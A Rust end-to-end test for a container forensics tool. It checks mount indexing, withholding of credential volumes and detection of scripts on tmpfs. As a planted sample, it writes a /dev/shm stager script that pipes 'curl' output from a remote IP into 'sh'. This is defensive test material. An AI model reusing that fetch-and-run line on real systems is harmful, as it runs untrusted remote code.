//! Every mount of the container is evidence (CONTENTS.md §3, §10, §12): a real podman container
//! with a tmpfs mount, scripts in `/dev/shm` and in that tmpfs, a fake service-account volume and
//! a directory laid out like kubelet's Secret volume. The tree index lists their files with their
//! mount, `show suspicious` and `diff` raise `file-on-tmpfs` naming the copies, the timeline has
//! the `/dev/shm` script, and the token's bytes are in the bundle only with `--include-secrets`.

use crate::podman::{Container, Image};
use crate::util::{contents, json, keygen, run, s, stdout};
use forensic_analysis::time::format_ns;
use forensic_evidence::members;
use serde_json::{Value, json};
use std::os::unix::fs::MetadataExt;

/// The token: bytes that appear nowhere else, so that finding them anywhere in a bundle means
/// the token was copied.
const TOKEN: &[u8] = b"eyJhbGciOiJSUzI1NiJ9.forensic-e2e-mounts-token.c2lnbmF0dXJl";
const SHM_SCRIPT: &[u8] = b"#!/bin/sh\ncurl -s http://203.0.113.7/stage2 | sh\n";
const SCRATCH_SCRIPT: &[u8] = b"#!/bin/sh\necho scratch\n";

fn sha256(b: &[u8]) -> String {
    forensic_bundle::digest::Digest::of(b).hex()
}

/// The index line `forensic collect` must write for the file at `path` in the container, from
/// the host's `lstat` of it (through `/proc/PID/root`), with `tail` the keys after `sha256`.
fn expected_line(pid: u32, path: &str, content: &[u8], tail: &str) -> String {
    let m = std::fs::symlink_metadata(format!("/proc/{pid}/root{path}")).unwrap();
    format!(
        r#"{{"path":"{path}","type":"file","mode":"{:04o}","uid":{},"gid":{},"size":{},"mtime_ns":{},"ctime_ns":{},"inode":{},"nlink":{},"symlink_target":null,"xattrs":null,"sha256":"{}",{tail}}}"#,
        m.mode() & 0o7777,
        m.uid(),
        m.gid(),
        m.size(),
        m.mtime() * 1_000_000_000 + m.mtime_nsec(),
        m.ctime() * 1_000_000_000 + m.ctime_nsec(),
        m.ino(),
        m.nlink(),
        sha256(content),
    )
}

/// The 1-based line of the index whose path is `path`, and the line.
fn index_line(index: &str, path: &str) -> (usize, String) {
    let want = format!(r#"{{"path":"{path}","#);
    let (i, l) = index
        .lines()
        .enumerate()
        .find(|(_, l)| l.starts_with(&want))
        .unwrap_or_else(|| panic!("{path} is not in the tree index"));
    (i + 1, l.to_string())
}

fn member<'a>(all: &'a [(String, Vec<u8>)], name: &str) -> &'a [u8] {
    all.iter()
        .find(|(n, _)| n == name)
        .map(|(_, b)| b.as_slice())
        .unwrap_or_else(|| panic!("no member {name}"))
}

fn holds(haystack: &[u8], needle: &[u8]) -> bool {
    haystack.windows(needle.len()).any(|w| w == needle)
}

#[test]
fn every_mount_is_indexed_and_a_dev_shm_script_is_a_finding_and_in_the_timeline() {
    let t = tempfile::tempdir().unwrap();
    let sa = t.path().join("serviceaccount");
    std::fs::create_dir(&sa).unwrap();
    std::fs::write(sa.join("token"), TOKEN).unwrap();
    std::fs::write(
        sa.join("ca.crt"),
        b"-----BEGIN CERTIFICATE-----\nMIIB\n-----END CERTIFICATE-----\n",
    )
    .unwrap();
    std::fs::write(sa.join("namespace"), b"default").unwrap();
    let secret = t
        .path()
        .join("kubelet/pods/5f0c1d2e/volumes/kubernetes.io~secret/db-creds");
    std::fs::create_dir_all(&secret).unwrap();
    std::fs::write(secret.join("password"), b"s3cr3t-db-password-e2e").unwrap();
    let image = Image::build_with(t.path(), "mounts", &[("etc/mounts-test", b"mounts\n")]);
    let sa_flag = format!("{}:/var/run/secrets/kubernetes.io/serviceaccount:ro", sa.display());
    let secret_flag = format!("{}:/etc/db-creds:ro", secret.display());
    let c = Container::start_run(
        &image,
        "forensic-e2e-mounts",
        &[
            "--mount",
            "type=tmpfs,destination=/scratch",
            "-v",
            &sa_flag,
            "-v",
            &secret_flag,
        ],
        &["/bin/sleep", "100000"],
    );
    c.sh("printf '#!/bin/sh\\ncurl -s http://203.0.113.7/stage2 | sh\\n' > /dev/shm/.stage.sh && printf '#!/bin/sh\\necho scratch\\n' > /scratch/run.sh && chmod 755 /scratch/run.sh");
    let pid = c.pid();
    let (key, _) = keygen(t.path(), "k");
    let bundle = t.path().join("a.zip");
    c.collect(&bundle, &key, &["--quiet"]);
    let with = t.path().join("b.zip");
    c.collect(&with, &key, &["--quiet", "--include-secrets"]);

    let all = contents(&std::fs::read(&bundle).unwrap());
    let index = String::from_utf8(member(&all, members::TREE_INDEX).to_vec()).unwrap();

    // The tree index: each file with its mount, the credentials withheld.
    let (shm_n, shm) = index_line(&index, "/dev/shm/.stage.sh");
    assert_eq!(
        shm,
        expected_line(
            pid,
            "/dev/shm/.stage.sh",
            SHM_SCRIPT,
            r#""mount":"/dev/shm","mount_kind":"tmpfs""#
        )
    );
    let (scratch_n, scratch) = index_line(&index, "/scratch/run.sh");
    assert_eq!(
        scratch,
        expected_line(
            pid,
            "/scratch/run.sh",
            SCRATCH_SCRIPT,
            r#""mount":"/scratch","mount_kind":"tmpfs""#
        )
    );
    let sa_dir = "/var/run/secrets/kubernetes.io/serviceaccount";
    let withheld = |kind: &str| {
        format!(
            r#""withheld":"credential volume ({kind}): contents not copied, since a bundle travels; collect --include-secrets copies them""#
        )
    };
    let (_, token) = index_line(&index, &format!("{sa_dir}/token"));
    assert_eq!(
        token,
        expected_line(
            pid,
            &format!("{sa_dir}/token"),
            TOKEN,
            &format!(
                r#""mount":"{sa_dir}","mount_kind":"projected",{}"#,
                withheld("projected")
            )
        )
    );
    let (_, password) = index_line(&index, "/etc/db-creds/password");
    assert_eq!(
        password,
        expected_line(
            pid,
            "/etc/db-creds/password",
            b"s3cr3t-db-password-e2e",
            &format!(
                r#""mount":"/etc/db-creds","mount_kind":"secret",{}"#,
                withheld("secret")
            )
        )
    );
    for f in ["ca.crt", "namespace"] {
        assert!(
            index_line(&index, &format!("{sa_dir}/{f}"))
                .1
                .contains(&withheld("projected"))
        );
    }
    // The mount points are directories of their mount; pseudo filesystems are not entered.
    assert!(
        index_line(&index, "/scratch")
            .1
            .starts_with(r#"{"path":"/scratch","type":"dir","#)
    );
    let proc_line = index_line(&index, "/proc").1;
    assert!(
        proc_line.contains(r#""type":"mountpoint-skipped""#)
            && proc_line.ends_with(r#""mount":"/proc","mount_kind":"pseudo"}"#),
        "{proc_line}"
    );
    assert!(!index.contains(r#""path":"/proc/"#), "nothing below /proc is indexed");

    // mounts.json: each mount with its kind and what became of it.
    let mounts: Vec<Value> = serde_json::from_slice(member(&all, members::MOUNTS)).unwrap();
    let kinds: Vec<(String, String, String, bool)> = mounts
        .iter()
        .map(|m| {
            (
                m["mount_point"].as_str().unwrap().to_string(),
                m["kind"].as_str().unwrap().to_string(),
                m["indexed"].as_str().unwrap().to_string(),
                m["credential"].as_bool().unwrap(),
            )
        })
        .collect();
    for want in [
        ("/", "root", "indexed", false),
        ("/dev", "tmpfs", "indexed", false),
        ("/dev/shm", "tmpfs", "indexed", false),
        ("/scratch", "tmpfs", "indexed", false),
        ("/proc", "pseudo", "not-walked", false),
        ("/dev/pts", "pseudo", "not-walked", false),
        (sa_dir, "projected", "indexed", true),
        ("/etc/db-creds", "secret", "indexed", true),
        ("/etc/hosts", "runtime-bind", "file", false),
    ] {
        let want = (want.0.to_string(), want.1.to_string(), want.2.to_string(), want.3);
        assert!(kinds.contains(&want), "{want:?} not in {kinds:?}");
    }
    let sa_mount = mounts.iter().find(|m| m["mount_point"] == sa_dir).unwrap();
    assert_eq!(sa_mount["runtime"]["source"], s(&sa));
    assert_eq!(sa_mount["contents_copied"], false);

    // The copies: the /dev/shm script under root/ (an attacker place), the tmpfs one under
    // changed/; no credential anywhere.
    assert_eq!(member(&all, "5-filesystem/root/dev/shm/.stage.sh"), SHM_SCRIPT);
    assert_eq!(member(&all, "5-filesystem/changed/scratch/run.sh"), SCRATCH_SCRIPT);
    // The derived lists come from the same walks: files on other mounts under their full path.
    let recent = String::from_utf8(member(&all, "5-filesystem/derived/recent.txt").to_vec()).unwrap();
    for path in ["/dev/shm/.stage.sh", "/scratch/run.sh"] {
        assert!(recent.lines().any(|l| l == path), "{path} not in recent.txt:\n{recent}");
    }
    for (name, bytes) in &all {
        assert!(!holds(bytes, TOKEN), "the token is in {name} without --include-secrets");
        assert!(!holds(bytes, b"s3cr3t-db-password-e2e"), "the secret is in {name}");
    }
    assert!(!holds(&std::fs::read(&bundle).unwrap(), TOKEN));

    // show suspicious: exactly these file-on-tmpfs findings.
    let o = run(&["show", s(&bundle), "suspicious", "--json"]);
    assert_eq!(o.status.code(), Some(0), "{}", String::from_utf8_lossy(&o.stderr));
    let v = json(&o);
    let tmpfs: Vec<&Value> = v["findings"]
        .as_array()
        .unwrap()
        .iter()
        .filter(|f| f["kind"] == "file-on-tmpfs")
        .collect();
    let meta = |path: &str| std::fs::symlink_metadata(format!("/proc/{pid}/root{path}")).unwrap();
    let shm_m = meta("/dev/shm/.stage.sh");
    let scratch_m = meta("/scratch/run.sh");
    let mtime = |m: &std::fs::Metadata| format_ns(m.mtime() * 1_000_000_000 + m.mtime_nsec());
    assert_eq!(
        tmpfs,
        [
            &json!({
                "severity": "high",
                "kind": "file-on-tmpfs",
                "path": "/scratch/run.sh",
                "message": format!("executable file on the tmpfs mount /scratch (memory only, gone with the container): /scratch/run.sh (-rwxr-xr-x 0:0 {} bytes, modified {})", SCRATCH_SCRIPT.len(), mtime(&scratch_m)),
                "evidence": [format!("5-filesystem/tree-index.jsonl line {scratch_n}"), "5-filesystem/changed/scratch/run.sh"],
            }),
            &json!({
                "severity": "medium",
                "kind": "file-on-tmpfs",
                "path": "/dev/shm/.stage.sh",
                "message": format!("regular file on the tmpfs mount /dev/shm (memory only, gone with the container): /dev/shm/.stage.sh (-rw-r--r-- 0:0 {} bytes, modified {})", SHM_SCRIPT.len(), mtime(&shm_m)),
                "evidence": [format!("5-filesystem/tree-index.jsonl line {shm_n}"), "5-filesystem/root/dev/shm/.stage.sh"],
            }),
        ]
    );

    // The timeline: the /dev/shm script's write (mtime = ctime: one event).
    let o = run(&["timeline", s(&bundle)]);
    assert_eq!(o.status.code(), Some(0), "{}", String::from_utf8_lossy(&o.stderr));
    let want = format!(
        "{}  file       m.c.         -rw-r--r-- 0:0 {} /dev/shm/.stage.sh  [5-filesystem/tree-index.jsonl line {shm_n}]",
        mtime(&shm_m),
        SHM_SCRIPT.len()
    );
    assert!(stdout(&o).lines().any(|l| l == want), "{want}\nnot in:\n{}", stdout(&o));

    // diff against the node's layers: the same findings, and no file of a mount is an image change.
    let o = run(&["diff", s(&bundle), "--image-from-bundle", "--json"]);
    let v = json(&o);
    let diff_tmpfs: Vec<(String, String)> = v["findings"]
        .as_array()
        .unwrap()
        .iter()
        .filter(|f| f["kind"] == "file-on-tmpfs")
        .map(|f| {
            (
                f["path"].as_str().unwrap().to_string(),
                f["severity"].as_str().unwrap().to_string(),
            )
        })
        .collect();
    assert_eq!(
        diff_tmpfs,
        [
            ("/scratch/run.sh".to_string(), "high".to_string()),
            ("/dev/shm/.stage.sh".to_string(), "medium".to_string())
        ]
    );
    assert!(
        v["findings"]
            .as_array()
            .unwrap()
            .iter()
            .all(|f| f["kind"] != "lower-layer-changed"),
        "{v:#}"
    );

    // With --include-secrets: the token is copied, its hash is the indexed one, nothing withheld.
    let all = contents(&std::fs::read(&with).unwrap());
    let index = String::from_utf8(member(&all, members::TREE_INDEX).to_vec()).unwrap();
    let (_, token) = index_line(&index, &format!("{sa_dir}/token"));
    assert_eq!(
        token,
        expected_line(
            pid,
            &format!("{sa_dir}/token"),
            TOKEN,
            &format!(r#""mount":"{sa_dir}","mount_kind":"projected""#)
        )
    );
    let copy = member(&all, &format!("5-filesystem/changed{sa_dir}/token"));
    assert_eq!(copy, TOKEN);
    assert_eq!(sha256(copy), sha256(TOKEN));
    assert_eq!(
        member(&all, "5-filesystem/changed/etc/db-creds/password"),
        b"s3cr3t-db-password-e2e"
    );
    let mounts: Vec<Value> = serde_json::from_slice(member(&all, members::MOUNTS)).unwrap();
    assert_eq!(
        mounts.iter().find(|m| m["mount_point"] == sa_dir).unwrap()["contents_copied"],
        true
    );
}
